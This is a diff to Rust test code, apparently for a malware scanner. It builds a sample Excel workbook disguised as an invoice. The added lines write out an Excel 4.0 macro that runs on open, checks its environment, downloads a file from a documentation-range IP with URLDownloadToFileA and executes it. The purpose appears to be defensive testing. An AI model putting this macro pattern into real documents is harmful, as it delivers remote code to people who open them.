@@ -176,8 +176,14 @@ fn attacks() -> Vec<Sample> {
                 let book = Workbook::new()
                     .sheet("請求書", 0, 0)
                     .sheet("Macro1", 2, 1)
-                    .auto_open()
-                    .label("http://198.51.100.7/x")
+                    .column(&[
+                        "IF(GET.WORKSPACE(19),GOTO(A3))",
+                        "CLOSE(FALSE)",
+                        "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http\"&\"://198.51.100.7/x\",\"harmless-none.exe\",0,0)",
+                        "EXEC(\"harmless-none.exe\")",
+                        "HALT()",
+                    ])
+                    .auto_open_at(1)
                     .build();
                 Cfb::new().class("", EXCEL).stream("Workbook", book).build()
             },
